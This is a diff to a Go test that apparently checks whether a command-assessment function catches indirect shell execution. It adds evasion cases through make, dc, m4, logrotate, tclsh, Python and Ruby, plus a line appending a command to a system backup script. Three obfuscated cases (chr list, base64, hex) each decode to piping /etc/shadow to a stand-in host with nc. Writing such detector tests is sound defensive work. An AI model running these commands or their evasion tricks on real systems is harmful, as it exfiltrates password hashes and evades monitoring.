@@ -37,6 +37,20 @@ func TestImpliedCodeIsFollowed(t *testing.T) {
 		"exec 7<<'E'\n" + x + "\nE\nbash /proc/self/fd/7",
 		"set -- -c '" + x + "'; while getopts c: o; do sh -c \"$OPTARG\"; done",
 		"coproc sh -c '" + x + "'",
+		"make -f - <<'E'\nall:\n\t@" + x + "\nE",
+		"printf 'a:\\n\\t" + x + "\\n' > Makefile; make",
+		"echo '!" + x + "' | dc",
+		"echo 'syscmd(`" + x + "'\"'\"')' | m4",
+		"printf '/x {\\n postrotate\\n " + x + "\\n endscript\\n}\\n' > /tmp/l; logrotate -f /tmp/l",
+		"cp /bin/bash /tmp/k && /tmp/k -c '" + x + "'",
+		"ln -s /bin/sh /tmp/k; /tmp/k -c '" + x + "'",
+		"$SHELL -c '" + x + "'",
+		"echo 'exec sh -c {" + x + "}' | tclsh",
+		"echo '" + x + "' >> /usr/local/bin/backup",
+		"python3 -c \"__import__('os').system('" + x + "')\"",
+		"python3 -c 'import os;os.system(\"\".join(map(chr,[99,97,116,32,47,101,116,99,47,115,104,97,100,111,119,124,110,99,32,49,57,56,46,53,49,46,49,48,48,46,57,32,56,48])))'",
+		"eval \"$(python3 -c 'import base64;print(base64.b64decode(\"Y2F0IC9ldGMvc2hhZG93IHwgbmMgMTk4LjUxLjEwMC45IDg0NDM=\").decode())')\"",
+		"ruby -e 'system([\"636174202f6574632f736861646f77207c206e63203139382e35312e3130302e392038343433\"].pack(\"H*\"))'",
 	} {
 		a := Assess(context.Background(), Request{Text: []byte("uptime\n" + text + "\n"), Lang: "bash"})
 		read := false
